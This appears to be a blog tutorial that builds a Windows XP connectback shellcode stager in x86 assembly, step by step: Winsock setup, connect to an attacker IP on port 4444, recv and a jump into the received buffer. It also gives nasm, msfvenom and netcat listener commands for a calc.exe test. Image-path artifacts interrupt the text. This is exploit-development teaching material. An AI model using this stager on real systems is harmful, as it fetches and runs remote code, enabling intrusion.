I recently challenged myself to manually write a Windows shellcode stager that could be used to create space for second stage shellcode in an exploit. This is usually the realm of Metasploit and not something you want to write yourself, but the best way to learn something is to get your hands dirty. During this exercise I tried to collect resources that would help me recreate a stager, but I came up mostly empty handed. The following is what I wish I had been able to find and read.

There are some resources available for someone looking to write a stager. The first and foremost is Skape’s whitepaper, Understanding Win32 Shellcode. Beyond that, there are a few articles you can find online with little snippets and insights into bits and pieces. The best source after Skape’s paper is MSDN and the pages for the functions used in a Windows stager:

I also recommend reviewing Fuzzy Security’s tutorials, especially #6 on Win32 shellcoding. Fuzzy Sec does a great job covering the ins and outs of some of the basics, like how to push function arguments to the stack. The tutorials, but especially #6, are excellent resources for anyone getting started with Win32 shellcode and exploit development.


Setting Up a Test Environment

A skeleton test script was setup using Python and ctypes. This allowed for quick and easy execution of shellcode without needing to setup a vulnerable application and an exploit. It’s a wonderful way to experiment with new shellcode. There isone caveat: Python won’t load some of the libraries your intended target application might, but that can be fixed by loading the DLL(s) with the functions you intend to use. Also, debugging can be difficult because it’s Python that is executing the shellcode. An easy solution for making it possible to attach a debugger to Python is adding a single breakpoint, \xcc, at the start of your shellcode and a user input prompt before shellcode execution:debug = raw_input("Debug pause!")

When the script is run, Python will hit this and wait for input before proceeding. A debugger can be attached to the Python process during this time. After the key press, Python hits the single breakpoint and the debugger will pause. The shellcode commands can then be examined and stepped through.

One additional note on Python and ctypes: shellcode is usually intended to be injected into a running process, not executed like regular code via Python. As Skape mentioned in his paper’s explanation of a connectback stager, WSAStartUp is skipped in the paper’s example shellcode because it is assumed the target process will have already called WSAStartUp. This is not true for Python and means adding extra bytes and effort, but that is perfect for learning how every step of this process works.

A Python ctypes template script can be found here: https://github.com/chrismaddalena/ExploitDev/tree/master/Practice

To allow that script to work for this stager, add this line below the import statement to load the ws2_32.dll:


Examining the Process

High level languages do a wonderful job obfuscating what it really takes to connect to a port or setup a port to listen for incoming data. All of the steps involve ws2_32.dll, the main Winsock 2.0 library file. From MSDN, “Winsock is an API that allows Windows-based applications to access the transport protocols.” The stager is going to make a lot of use of the Winsock API.The process from start to finish:

  1. Initiate the Windows Winsock API.
  2. Request a new socket from Windows.
  3. Connect the socket…
    1. Make a call to connect() to connect to an IP and port; or
    2. Make a call to bind() and listen() to listen on a port.
  4. Wait to receive data.
  5. Do something with that data, like stash it in a buffer and then JMP to it for execution.

Note: To explore this process and keep things as simple as possible, all addresses for functions will be hardcoded using addresses from Windows XP Service Pack 3.


The first step is calling WSAStartUp to initiate the use of the Winsock API by the current process. The syntax is:

int WSAStartup(
 _In_ WORD wVersionRequested,

This is straight forward. WSAStartUp will expect to find two arguments, one setting the highest version the caller can use and a pointer to the WSADATA structure. For the version, WSAStartUp looks to the high-order byte for the minor version number and the low-order byte to set the major version number.It is worth mentioning again that this step would be skipped if this shellcode were being injected into, say, an FTP server’s process that was being remotely exploited. Such a process has already loaded ws2_32.dll and called WSAStartUp for its use.

It looks like this in Assembly:

; Execute WSAStartUp

XOR EBX,EBX        ; Zero EBX
MOV BX,0x0190      ; Set lower bytes to 0x0190
SUB ESP,EBX        ; Subtract EBX from ESP
PUSH ESP           ; Push ESP for lsWSAData
PUSH EBX           ; Push EBX for wVersionRequested

MOV EBX,0x71AB6A55 ; MOV EAX,WS2_32.WSAStartUp
CALL EBX           ; Call WSAStartUp


WSASocketA creates a socket that can be used for the stager. There are more arguments for this one:

 _In_ int af,
 _In_ int type,
 _In_ int protocol,
 _In_ LPWSAPROTOCOL_INFO lpProtocolInfo,
 _In_ GROUP g,
 _In_ DWORD dwFlags

The MSDN documentation has a lot ofadditional details, but the stager largely ignores the arguments beyond af and type, setting them to 0 or NULL. The socket needed for the stager is AF_INET of type SOCK_STREAM. If everything works, WSASocketA will return a socket descriptor that will be used going forward.

The AF_INET represents the Address Family (AF) and will use internet addresses (INET). This means IP addresses. The SOCK_STREAM typerepresents a sequenced, reliable, two-way connection-based byte stream. In other words, the socket is setup for IP addresses and TCP connections.

As an aside, this is what happens when a new socket is created in a high level language like Python, e.g. s = socket.socket(socket.AF_INET, socket.SOCK_STREAM). The descriptor is what is stored in the variable and allows for commands like s.connect((IP, PORT)).

It looks like this in Assembly:

; Setup a new socket using WSASocketA
; If no error occurs, WSASocketA returns a descriptor

XOR EDI,EDI        ; Set EDI to NULL
PUSH EDI           ; Push dwFlags arg -- 0 means no flags
PUSH EDI           ; Push g arg -- 0 means no group operation
PUSH EDI           ; Push lpProtocolInfo arg -- NULL
PUSH EDI           ; Push the protocol arg -- 0 means no protocol specified
INC EDI            ; Increment EDI to 1
PUSH EDI           ; Push the type argument as 1 (SOCK_STREAM)
INC EDI            ; Increment EDI to 2
PUSH EDI           ; Push af argument as 2 (AF_INET)

MOV EBX,0x71AB8B6A ; MOV EAX,WS2_32.WSASocketA
CALL EBX           ; CALL WSASocketA

MOV EDI,EAX        ; Save socket descriptor in EDINow Winsock has been initialized and the above code has stored the socket descriptor in EDI. It is time to connect the socket. The connect() function will be used to connect back to the attacking machine and fetch the second stage, but bind() and listen() could also be used here to bind a port to listen for incoming shellcode. However, that requires twice as many instructions compared to just calling connect and it’s less convenient. The bound port might also be firewalled off, so connect is the preferred option.

The connect function is a simple one. This function needs the socket descriptor, a socket address structure (IP address and port number), and a namelen argument (the size of the socket address structure).

int connect(
 _In_ SOCKET s,
 _In_ const struct sockaddr *name,
 _In_ int namelen

This sounds more complicated than it is. The sockaddr structure is an IP address and port number. The IP address is pushed to the stack as the hex representation of four individual numbers. They are pushed in reverse order for Little Endian like a memory address would be. If using an online decimal convertor, add a space between each IP octet.

Example: => 159 228 168 192 => 9F E4 A8 C0Then there is the port. The following example will use port 4444, pushed as 5C11 (115C is 4444 in hex). The one tricky thing seen below is the sin_family. A 2 is added to the end (0x5C110000 becomes 0x5C110002) to represent the AF_INET family. The number code for AF_INET, 2, is consistent with WSASocketA as seen above.

The namelen argument is 0x10.

It looks like this in Assembly:

; Initiate a connection with connect()

PUSH 0x9FE4A8C0    ; Push IP address --PUSH WORD 0x5C11   ; 0x115C = port 4444
XOR EBX,EBX        ; Zero EAX
ADD BL,2           ; Add 2 to BL for sin_family, 0x511c0002
PUSH WORD BX       ; Push sin_port and sin_family to stack
MOV EDX,ESP        ; Move pointer for sin_port and sin_family into EDX
PUSH BYTE 16       ; Push the namelen argument as 0x10
PUSH EDX           ; Push the the pointer to the sockaddr structure
PUSH EDI           ; Push the socket descriptor

MOV EBX,0x71AB4A07 ; MOV EAX,WS2_32.connect
CALL EBX           ; CALL connect


Now the stager can reach out and connect to a listening port, but it has to be told to accept data it is sent and what to do with it. The final step involving Winsock calls the recv() function.

int recv(
 _In_ SOCKET s,
 _Out_ char *buf,
 _In_ int len,
 _In_ int flags

This function takes the socket descriptor and a few other important arguments. The buf argument is a pointer to the buffer created for the received data. The len argument is the length of the buffer that should be created for the incoming data. Then some flags can be set, but they won’t be used in this stager.Think about the Python command s.recv(1024). It takes the previously referenced s variable, a socket descriptor, and tells it to receive incoming data up to 1024 bytes. That’s roughly what will be done here to complete the stager.

This is what it looks like in Assembly:

; Use recv() to receive the new buffer of stage 2 shellcode

INC AH             ; Increment EAX to 0x0100 as connect should have returned 0
INC AH             ; Increment EAX to 0x1000
SUB ESP,EAX        ; Allocate 4096 bytes of stack space for use in the recv call
MOV EBP,ESP        ; Save the pointer to the buffer in EBP
XOR ECX,ECX        ; Zero ECX for use as the flags argument
PUSH ECX           ; Push flags arg -- 0 for no flags
PUSH EAX           ; Push len arg -- Size of the buffer for incoming shellcode, 4096
PUSH EBP           ; Push buf arg -- Pointer to output buffer
PUSH EDI           ; Push s arg -- Descriptor returned by WSASocketA

MOV EBX,0x71AB676F ; MOV EAX,WS2_32.recv
CALL EBX           ; CALL recv

Calling connect and then recv like this allows for a clever use of connect’s success code. EAX will hold zero if connect was successful, so EAX can be incremented to help the stager make efficient use of registers. Much of this code comes from Skape’s paper and the Connectback IAT example.

With this bit of code added, the reverse connection will now accept returned data and move it into a buffer.


The final step is moving to recv’s buffer. That just requires a simple JMP instruction.

; Jump to the stage 2 shellcode and executeJMP EBP            ; Jump into the buffer that was read

Putting it All Together

Each piece of Assembly code can be put together in order and compiled with nasm. Don’t forget to change the IP address!

If the code is saved in a file named stager.asm, that command would be:

nasm stager.asm -o stager.bin

That BIN file can then be \x formatted for Python. This can be done manually by opening the BIN file in a hex editor or using a script. The stager comes to 88 bytes. Not bad!

python3 encoder.py --format stager.bin
[+] Formatting complete: 88 bytes

This example uses the encoder.py found here: https://github.com/chrismaddalena/ExploitDev/tree/master/Encoder

Test Drive

This stager is a connectback stager, so an attacking machine at the IP address specified in the stager needs to be setup to listen on port 4444 and respond with the second stage. The shellcode needs to be sent as raw bytes. The easiest option is generating a raw payload with msfvenom and saving it in a text file, like so:

msfvenom -p windows/exec CMD="calc.exe" -f raw > sc.txt

Then that can be fed into a netcat listener:nc -nvlp 4444 < sc.txt

Running the Python script with the stager shellcode should result in netcat registering a successful connection and calc.exe popping open on the Windows XP VM. Classic!

Debugging Issues

So, something went wrong? There is actually a very easy way to troubleshoot the sockets using a debugger. A call to the WSAGetLastError function will return the error code of the last Winsock API call. Thisworks for WSAStartUp, WSASocketA, connect, recv, bind, and listen.

Just call WSAGetLastError after one or all of the calls to the Winsock functions. It takes no arguments, so only the address of the function is needed.

MOV EBX,0x71AB3CCE ; MOV EAX,WS2_32.WSAGetLastError
CALL EBX           ; CALL WSAGetLastError

The debugger will show the returned error message. This can be a 0 for success or an error code with a message that is usually descriptive enough to be understood without referencing the error code webpage. It might say somethinglike “WSANOTINITIALISED” for WSASocketA. That would mean WSAStartUp failed.

Wrap Up

There is a lot more that can be explored with stagers. This example useshardcoded addresses. While the addresses can beeasily changed for differentversions of Windows and different service packs, that is hardly efficient. There are methods for dynamically locating these addressesso the shellcode can be reused across versions of Windows. This is great, but the downside is the stagers get much bigger. Without the WSAStartUp instructions, this stager is just 71 bytes, but it’s currently tied to Windows XP Service Pack 3. Skape’s connectback IAT stager is 162-178 bytes, but it works on more versions of Windows. In some cases, the loss of flexibility is negligible if there is a specific target in mind and space is tight.

Hopefully this article hashighlighted some of what goes on behind the scenes with sockets and stagers on Windows platforms and shown some of the pros and cons of using custom shellcode. Thisexample stager is by no meansperfect, but it does work.